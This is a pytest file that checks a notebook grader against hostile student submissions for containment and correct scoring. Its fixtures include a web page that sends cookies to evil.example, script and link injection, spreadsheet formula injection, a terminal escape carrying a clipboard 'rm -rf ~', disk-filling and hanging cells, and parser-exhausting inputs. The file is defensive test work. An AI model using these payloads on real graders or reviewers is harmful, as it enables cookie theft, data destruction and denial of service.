"""Hostile submissions graded through the command line beside honest ones (issue 19): each is contained and
named in its own report, the honest ones keep their exact scores, nothing outside the work copies changes.

The shared field cases (../shared/cases/field/: zip-backslash-member, zip-bad-member-name) are graded with their
right verdicts from ../shared/cases/README.md; TMPDIR is a scratch folder four levels deep, so that a member
escaping its unpack folder would stay inside it and be found.
"""
import csv
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

from conftest import ROOT, SHARED_CASES
from html_page import page_parts
from grader import selfcheck as C

FIELD = SHARED_CASES / "field"


def module_score(result):
    checks = [c for c in result["checks"] if c["target"] in C.TARGETS]
    return sum(c["points"] for c in checks), sum(c["max_points"] for c in checks)


def grade(paths, out, *options, env=None, timeout=900):
    """Runs `python -m grader PATHS --json OUT/grades.json OPTIONS`; returns (reports by key, the run)."""
    report = out / "grades.json"
    run = subprocess.run([sys.executable, "-m", "grader", *map(str, paths), "--json", str(report), *options],
                         cwd=ROOT, capture_output=True, timeout=timeout, env=env)
    assert run.returncode == 0, run.stdout.decode(errors="replace") + run.stderr.decode(errors="replace")
    return {r["key"]: r for r in json.loads(report.read_text(encoding="utf-8"))}, run


def snapshot(folder):
    return {str(p.relative_to(folder)): p.stat().st_mtime_ns for p in folder.rglob("*") if not p.is_symlink()}


@pytest.fixture(scope="module")
def archives():
    """The two shared archive cases graded in one --fast batch, TMPDIR four levels deep.

    The folder is a short one of /tmp's, not pytest's (under `make test`'s parallel workers pytest's folders are
    10 characters longer): the grader's kernel sockets live in TMPDIR, and a socket's path holds 107 bytes at most."""
    base = Path(tempfile.mkdtemp(prefix="hw3-archives-"))
    try:
        yield _graded_archives(base)
    finally:
        shutil.rmtree(base, ignore_errors=True)


def _graded_archives(base):
    scratch = base / "1" / "2" / "3" / "4"
    scratch.mkdir(parents=True)
    cases = [FIELD / "zip-backslash-member" / "submission.zip", FIELD / "zip-bad-member-name"]
    for case in cases:
        assert case.exists(), f"shared case missing: {case}"
    before = snapshot(SHARED_CASES)
    start = time.perf_counter()
    reports, run = grade(cases, base, "--fast", "--jobs", "2", env=dict(os.environ, TMPDIR=str(scratch)))
    print(f"\n{len(reports)} submissions graded in {time.perf_counter() - start:.0f} s")
    assert snapshot(SHARED_CASES) == before
    return reports, base, run


def test_zip_backslash_member_is_skipped_and_never_written_outside(archives):
    reports, base, _ = archives
    result = reports["submission"]
    assert module_score(result) == (171, 171)
    assert any("escaped-canary.txt" in n and "outside the archive" in n for n in result["notes"]), result["notes"]
    assert not list(base.rglob("escaped-canary.txt"))
    assert not list(ROOT.rglob("escaped-canary.txt"))


def test_zip_bad_member_name_is_one_problem_line_and_the_batch_goes_on(archives):
    reports, _, _ = archives
    broken, honest = reports["1001"], reports["1002"]
    assert module_score(broken) == (171, 171) and module_score(honest) == (171, 171)
    lines = [e for e in broken["errors"] if "could not be unpacked" in e]
    assert len(lines) == 1 and "notes-" in lines[0] and "scratch.txt" in lines[0], broken["errors"]
    assert not [e for e in honest["errors"] if "unpack" in e or "zip" in e], honest["errors"]


HANG = ("import signal, time\n"
        "signal.signal(signal.SIGINT, signal.SIG_IGN)   # the grader's interrupt is ignored\n"
        "while True:\n"
        "    time.sleep(0.1)\n")


def test_an_interrupt_ignoring_hang_with_long_cells_is_bounded_by_the_submission_limit(tmp_path):
    """Cells that ignore interrupts, after long cells that every restart replays: each hang used to cost a
    restart plus every long cell again (hours for one submission, with no error line). The submission's
    wall-clock limit bounds it all; the report says grading stopped, and how many restarts and replays."""
    import nbformat
    from grader.execution.session import grade_submission
    from grader.options import Options
    nb = nbformat.v4.new_notebook()
    # Unbounded, each hang costs its 3 s, the interrupt's grace (5 s), a restart and 6 s of replays: about 8 x 16 s.
    nb.cells = ([nbformat.v4.new_code_cell(f"import time\ntime.sleep(2)\nstep{i} = {i}") for i in range(3)]
                + [nbformat.v4.new_code_cell(HANG) for _ in range(8)])
    folder = tmp_path / "hanger"
    folder.mkdir()
    nbformat.write(nb, str(folder / "HW3_Modules.ipynb"))
    limit = 30
    start = time.perf_counter()
    report = grade_submission(folder, Options(timeout=3, fast=True, submission_limit=limit))
    seconds = time.perf_counter() - start
    assert seconds < limit + 30, seconds
    assert any("grading stopped: the submission used up its time (30 s" in e for e in report["errors"]), report["errors"]
    assert any("restarted" in n and "re-run after restarts" in n for n in report["notes"]), report["notes"]
    assert report["score"] == 0


# ----------------------------------------------------------------------------------------------------------------
# One batch of every hostile kind of issue 19's sections 3-5 beside honest submissions, in full mode.

BACKTICK = "``a` [click](http://evil.example/x) `b`` ![img](http://evil.example/p.png) <b>bold</b>"
FIFO_MAIN = ("import os\n"
             "os.makedirs('build', exist_ok=True)\n"
             "os.mkfifo('build/metrics.json')   # the grader used to open it and wait forever\n")
FILLER = "import os\nos.makedirs('junk', exist_ok=True)\nfor i in range(30000):\n    open(f'junk/{i}', 'wb').close()\n"
UNSHARE = "import subprocess\nsubprocess.run(['unshare', '-r', 'id'], check=True)\n"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# An exception message of escape sequences: OSC 52 (a terminal that runs it puts a command in the TA's clipboard),
# a screen clear, a window title, NUL and BEL
ESCAPES = "\x1b]52;c;cm0gLXJmIH4K\x07 \x1b[2J\x1b]0;owned\x07 NUL\x00 BEL\x07 \x9b31m"
WEB_PAGE = ("<!DOCTYPE html>\n<html><head><script>fetch('http://evil.example/'+document.cookie)</script></head>"
            "<body><img src=x onerror=alert(1)><a href='javascript:alert(2)'>=HYPERLINK(\"evil.example\")</a>"
            "</body></html>\n")   # a saved web page under the notebook's name, written to attack the review page


def _reference_plus(*sources):
    import nbformat
    from corpus import MODULES, reference
    nb = reference(MODULES)
    nb.cells += [nbformat.v4.new_code_cell(source) for source in sources]
    return nbformat.writes(nb)


def _main_notebook(source):
    import nbformat
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(source), nbformat.v4.new_code_cell("print('the rest')")]
    return nbformat.writes(nb)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """(reports by key, the output folder, the grader's runs): the hostile batch graded once, then --resume."""
    from corpus import MODULES, reference
    import nbformat
    base = tmp_path_factory.mktemp("hostile-batch")
    canvas, moodle = base / "canvas", base / "moodle" / "@SUM(1+1) Evil_7001_assignsubmission_file_"
    canvas.mkdir()
    moodle.mkdir(parents=True)
    honest = nbformat.writes(reference(MODULES))
    files = {
        '=HYPERLINK("evil.example","click")_5001_6001_HW3_Modules.ipynb': honest,
        "backtick_5003_6003_HW3_Modules.ipynb": _reference_plus(f"# `` [x](http://evil.example) ``\nraise ValueError({BACKTICK!r})"),
        "fifo_5004_6004_HW3_main.ipynb": _main_notebook(FIFO_MAIN),
        "honest_5005_6005_HW3_Modules.ipynb": honest,
        "filler_5006_6006_HW3_Modules.ipynb": _reference_plus(FILLER),
        "unshare_5007_6007_HW3_Modules.ipynb": _reference_plus(UNSHARE),
        "webpage_5008_6008_HW3_Modules.ipynb": WEB_PAGE,
    }
    for name, text in files.items():
        (canvas / name).write_text(text, encoding="utf-8")
    (moodle / "HW3_Modules.ipynb").write_text(honest, encoding="utf-8")
    escape = base / "moodle" / "Esc Ape_7002_assignsubmission_file_"
    escape.mkdir()
    (escape / "HW3_Modules.ipynb").write_text(_reference_plus(f"raise ValueError({ESCAPES!r})"), encoding="utf-8")
    surrogate = FIELD / "surrogate-in-output"
    assert surrogate.is_dir(), f"shared case missing: {surrogate}"
    shared_before = snapshot(SHARED_CASES)
    sandboxes_before = set(Path(tempfile.gettempdir()).glob("hw3-sandbox-*"))
    scratch = base / "tmp"
    scratch.mkdir()
    env = dict(os.environ, TMPDIR=str(scratch))
    out = base / "out"
    out.mkdir()
    reports, first = grade([canvas, base / "moodle", surrogate], out, "--jobs", "2", "--timeout", "30", env=env)
    again, resumed = grade([canvas, base / "moodle", surrogate], out, "--jobs", "2", "--timeout", "30", "--resume",
                           env=env)
    assert snapshot(SHARED_CASES) == shared_before
    return {"reports": reports, "again": again, "out": out, "runs": (first, resumed), "scratch": scratch,
            "sandboxes": set(Path(tempfile.gettempdir()).glob("hw3-sandbox-*")) - sandboxes_before}


def test_honest_submissions_keep_their_exact_scores(hostile):
    reports = hostile["reports"]
    for key in ("5001", "5005", "7001", "7002", "3002"):
        assert module_score(reports[key]) == (171, 171), (key, reports[key]["errors"])
    assert module_score(reports["5007"]) == (171, 171), reports["5007"]["errors"]      # its unshare cell fails alone
    assert module_score(reports["5003"]) == (171, 171), reports["5003"]["errors"]      # its raising cell fails alone


def test_every_hostile_one_is_named_in_its_own_report(hostile):
    reports = hostile["reports"]
    assert any("unshare" in e for e in reports["5007"]["errors"]), reports["5007"]["errors"]
    # Named once in the errors whether the launcher's measure stopped the filler's cell or (the cell ended first)
    # the grader's checks after it; a check's message never says a module raised it.
    assert sum("filled its folder" in e for e in reports["5006"]["errors"]) == 1, reports["5006"]["errors"]
    assert not [c for c in reports["5006"]["checks"] if "raised stopped" in c["message"]]
    main = [c for c in reports["5004"]["checks"] if c["target"] == "main notebook"]
    assert any("FIFO" in c["message"] for c in main), main
    assert any("HW3_main.ipynb cell" in e and "FileNotFoundError" in e for e in reports["3001"]["errors"]), \
        reports["3001"]["errors"]


def test_every_gradebook_journal_and_feedback_file_is_written_and_opens_safely(hostile):
    out = hostile["out"]
    for name in ("grades.json", "grades.jsonl"):
        text = (out / name).read_text(encoding="utf-8")
        assert text and "\udc80" not in text
    for line in (out / "grades.jsonl").read_text(encoding="utf-8").splitlines():
        json.loads(line)
    for name in ("grades.csv", "grades_canvas.csv", "grades_moodle.csv"):
        with open(out / name, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        assert len(rows) >= 2, name
        formulas = [cell for row in rows for cell in row if cell.startswith(FORMULA_START)
                    and not re.fullmatch(r"-?\d+(\.\d+)?", cell)]
        assert formulas == [], (name, formulas)
    cells = "".join(open(out / n, encoding="utf-8").read() for n in ("grades.csv", "grades_canvas.csv", "grades_moodle.csv"))
    assert "'=HYPERLINK(" in cells and "'@SUM(1+1)" in cells
    feedback = sorted((out / "grades_feedback").iterdir())
    assert len(feedback) == 2 * len(hostile["reports"])
    for page in (p for p in feedback if p.suffix == ".html"):
        html = page.read_text(encoding="utf-8")
        assert not re.search(r"<(a|img|b|script)\b", html), page.name
    backtick = (out / "grades_feedback" / "5003.html").read_text(encoding="utf-8")
    assert "evil.example" in backtick     # shown as text, never a link


def test_escape_sequences_in_a_message_are_shown_never_written_raw(hostile):
    """Control characters of a student's exception message reach no file the grader writes (the feedback's .md a TA
    may `cat`, its HTML, the Moodle worksheet's comments, the JSON, the journal): each is shown as \\xNN."""
    out = hostile["out"]
    control = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
    for path in [p for p in out.rglob("*") if p.is_file() and p.suffix in (".md", ".html", ".csv", ".json", ".jsonl")]:
        assert not control.search(path.read_text(encoding="utf-8")), path
    assert any("\\x1b]52;c;" in e and "NUL\\x00" in e for e in hostile["reports"]["7002"]["errors"])
    assert "\\x1b]52;c;" in (out / "grades_feedback" / "7002.md").read_text(encoding="utf-8")
    with open(out / "grades_moodle.csv", newline="", encoding="utf-8") as f:
        assert any("\\x1b]52;c;" in cell for row in csv.reader(f) for cell in row)


def test_a_hostile_web_page_under_a_notebooks_name_awaits_a_ta_and_is_shown_only_as_text(hostile):
    """Never a 0, never run: its 171 points await a TA outside the score and maximum, its Canvas grade is left empty,
    and the review page shows its markup as text (no element, attribute or script of the file's)."""
    report, out = hostile["reports"]["5008"], hostile["out"]
    [item] = [c for c in report["checks"] if isinstance(c.get("review"), dict)]
    assert item["max_points"] == report["awaiting_review"] == 171 and not module_score(report)[1]
    assert "a web page saved under a notebook's name" in item["review"]["reason"]
    with open(out / "grades_canvas.csv", newline="", encoding="utf-8") as f:
        assert {row[1]: row[5] for row in csv.reader(f)}["5008"] == ""
    page = page_parts((out / "grades_review" / "unreadable-HW3_Modules.html").read_text(encoding="utf-8"))
    assert not [(name, value) for name, value in page.attrs if name.startswith("on") or "evil.example" in (value or "")
                or "javascript:" in (value or "")]
    assert not [script for script in page.scripts if "evil.example" in script]
    assert "<script>fetch('http://evil.example/'+document.cookie)</script>" in page.text   # shown as text


def test_resume_reads_the_journal_back_and_grades_nothing_again(hostile):
    again, reports = hostile["again"], hostile["reports"]
    assert {k: r["score"] for k, r in again.items()} == {k: r["score"] for k, r in reports.items()}
    assert "already graded" in hostile["runs"][1].stdout.decode(errors="replace")


def test_nothing_is_left_behind(hostile):
    from conftest import processes_with
    # The batch's sandbox launchers name their connection files in its TMPDIR (the scratch folder); another test's
    # kernels, running beside this file under `make test`'s parallel workers, name theirs elsewhere.
    launchers = processes_with(str(ROOT / "grader" / "execution" / "sandbox.py"))
    assert [p for p in launchers if p in processes_with(str(hostile["scratch"]))] == []
    def ours(folder):   # the machine is shared: a socket folder of this batch names its client's, in our TMPDIR
        try:
            return str(hostile["scratch"]) in (folder / "kernel.json").read_text()
        except OSError:
            return False
    assert [p for p in hostile["sandboxes"] if ours(p)] == []
    assert list(hostile["scratch"].iterdir()) == []


# ----------------------------------------------------------------------------------------------------------------
# Text the grader reads in its own process, where no cell limit applies: the course's differentiation notebook, whose
# LaTeX answers are parsed by SymPy and whose math is found and shown on the review pages.

def test_a_power_tower_answer_and_unclosed_math_do_not_stall_the_batch(tmp_path):
    """ex1 answered 9^{9^{9}} x^T (SymPy computed its 370 million digits: the batch stood still for hours) and ex2's
    region padded with cells of 33,000 unclosed '\\(' (a quadratic read, ~30 s a cell, twice: judged and shown on
    the review page). Graded beside the honest course case in seconds; the honest one keeps its verdicts, the
    attacker's ex1 awaits a TA with the reason."""
    import nbformat
    case = SHARED_CASES / "real" / "differentiation-latex-course"
    assert case.is_dir(), f"shared case missing: {case}"
    honest, attacker = tmp_path / "honest", tmp_path / "attacker"
    shutil.copytree(case, honest)
    shutil.copytree(case, attacker)
    for folder in (honest, attacker):
        for path in folder.iterdir():
            path.chmod(0o644)
    path = attacker / "homework_differentiation.ipynb"
    nb = nbformat.read(str(path), as_version=4)
    [answer] = [c for c in nb.cells if "2x^T." in c.source]
    answer.source = answer.source.replace("2x^T.", "9^{9^{9}} x^T.")
    at = next(i for i, c in enumerate(nb.cells) if c.source.startswith("## ex. 2")) + 1
    nb.cells[at:at] = [nbformat.v4.new_markdown_cell("\\(" * 33_000) for _ in range(8)]
    nbformat.write(nb, str(path))
    started = time.monotonic()
    reports, _ = grade([honest, attacker], tmp_path / "out", "--fast", timeout=300)
    assert time.monotonic() - started < 150
    by_name = {Path(r["submission"]).name: r for r in reports.values()}
    ex = {name: {c["name"].split(":")[0]: c for c in r["checks"] if c["name"].startswith("ex. ")}
          for name, r in by_name.items()}
    assert by_name["honest"]["score"] == by_name["honest"]["max_score"] and ex["honest"]["ex. 1"]["passed"]
    assert ex["attacker"]["ex. 1"]["review"] and "too large to compute" in ex["attacker"]["ex. 1"]["message"]
    assert ex["attacker"]["ex. 2"]["passed"]
    assert list((tmp_path / "out" / "grades_review").glob("*.html"))


def test_code_nested_too_deep_is_graded_and_flagged_never_a_grader_failure(tmp_path):
    """A cell of a 300,000-term sum made the grader's own parse (which version the notebook is written against)
    raise RecursionError: the submission was 'not graded', and three at the head of a batch stop it. A 600-term sum
    runs in the kernel but ended the integrity scan of its cell, hiding the open() below it. Graded beside an honest
    one: every module scores, the deep cells are named for a TA, the open() is flagged."""
    from corpus import MODULES
    deep_parse = _reference_plus("x = 1" + " + 1" * 300_000)
    deep_scan = _reference_plus("x = 1" + " + 1" * 600 + "\ndata = open('/etc/hostname').read()")
    for name, text in (("honest", _reference_plus()), ("deep-parse", deep_parse), ("deep-scan", deep_scan)):
        (tmp_path / name).mkdir()
        (tmp_path / name / MODULES).write_text(text, encoding="utf-8")
    reports, _ = grade([tmp_path / n for n in ("honest", "deep-parse", "deep-scan")], tmp_path / "out", "--fast",
                       "--jobs", "2", timeout=600)
    by_name = {Path(r["submission"]).name: r for r in reports.values()}
    for name, report in by_name.items():
        assert report["graded"] and module_score(report) == (171, 171), (name, report["errors"])
    assert any("is nested too deep for the scan to read" in e for e in by_name["deep-parse"]["errors"])
    [flag] = [e for e in by_name["deep-scan"]["errors"] if e.startswith("integrity:")]
    assert "reads a file (line 2: `data = open('/etc/hostname').read()`)" in flag and "nested too deep" in flag


GRADE_AND_MEASURE = '''
import resource, runpy, sys
sys.argv = ["grader"] + sys.argv[1:]
try:
    runpy.run_module("grader", run_name="__main__")
except SystemExit as done:
    code = done.code
finally:
    peak = max(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
    print(f"PEAK-KIB {peak}")
sys.exit(code)
'''


def test_a_notebook_too_large_to_read_awaits_a_ta_and_is_never_parsed(tmp_path):
    """A 300 MB notebook (saved outputs; 512 MiB come from a zip of half a megabyte) was parsed in the grader's own
    process: its peak memory was 8.7 times the file (2.6 GB). Past MAX_NOTEBOOK_BYTES it is not parsed (5.4 times
    the file: the task still carries it to its worker): its points await a TA with what to do."""
    import nbformat
    from corpus import MODULES
    from grader.intake.notebooks import MAX_NOTEBOOK_BYTES
    honest, huge = tmp_path / "honest", tmp_path / "huge"
    honest.mkdir()
    huge.mkdir()
    (honest / MODULES).write_text(_reference_plus(), encoding="utf-8")
    nb = nbformat.reads(_reference_plus("print('x')"), as_version=4)
    nb.cells[-1].outputs = [nbformat.v4.new_output("stream", name="stdout", text="0123456789abcdef\n")]
    head, tail = nbformat.writes(nb).split('"0123456789abcdef\\n"')
    lines = MAX_NOTEBOOK_BYTES // 20 + 1_000_000
    with open(huge / MODULES, "w", encoding="utf-8") as f:
        f.write(head + ", ".join(['"0123456789abcdef\\n"'] * lines) + tail)
    assert (huge / MODULES).stat().st_size > MAX_NOTEBOOK_BYTES
    out = tmp_path / "out"
    run = subprocess.run([sys.executable, "-c", GRADE_AND_MEASURE, str(honest), str(huge), "--fast", "--json",
                          str(out / "grades.json")], cwd=ROOT, capture_output=True, text=True, timeout=600)
    assert run.returncode == 0, run.stdout + run.stderr
    peak_mib = int(run.stdout.split("PEAK-KIB ")[1].split()[0]) / 1024
    assert peak_mib < 7 * (huge / MODULES).stat().st_size / 2 ** 20, peak_mib
    reports = {Path(r["submission"]).name: r for r in json.loads((out / "grades.json").read_text(encoding="utf-8"))}
    assert module_score(reports["honest"]) == (171, 171)
    [item] = [c for c in reports["huge"]["checks"] if isinstance(c.get("review"), dict)]
    assert item["max_points"] == reports["huge"]["awaiting_review"] == 171
    assert "more than the grader reads" in item["review"]["reason"] and "clear all outputs" in item["review"]["reason"] \
        or "clear all outputs" in json.dumps(item["review"]), item["review"]


def test_a_flood_of_blank_lines_beside_missing_classes_does_not_stall_the_batch(tmp_path):
    """A modules notebook that defines no module and holds a markdown cell of 100,000 blank lines: for every check of
    a missing class the grader looked for the class in each cell with a quadratic pattern (minutes a search, hours
    in all). Graded beside an honest submission in seconds; every module is 'not found'."""
    import nbformat
    from corpus import MODULES
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("import numpy as np"), nbformat.v4.new_markdown_cell("\n" * 100_000)]
    for name, text in (("honest", _reference_plus()), ("flood", nbformat.writes(nb))):
        (tmp_path / name).mkdir()
        (tmp_path / name / MODULES).write_text(text, encoding="utf-8")
    started = time.monotonic()
    reports, _ = grade([tmp_path / "honest", tmp_path / "flood"], tmp_path / "out", "--fast", timeout=600)
    assert time.monotonic() - started < 120
    by_name = {Path(r["submission"]).name: r for r in reports.values()}
    assert module_score(by_name["honest"]) == (171, 171) and module_score(by_name["flood"]) == (0, 171)
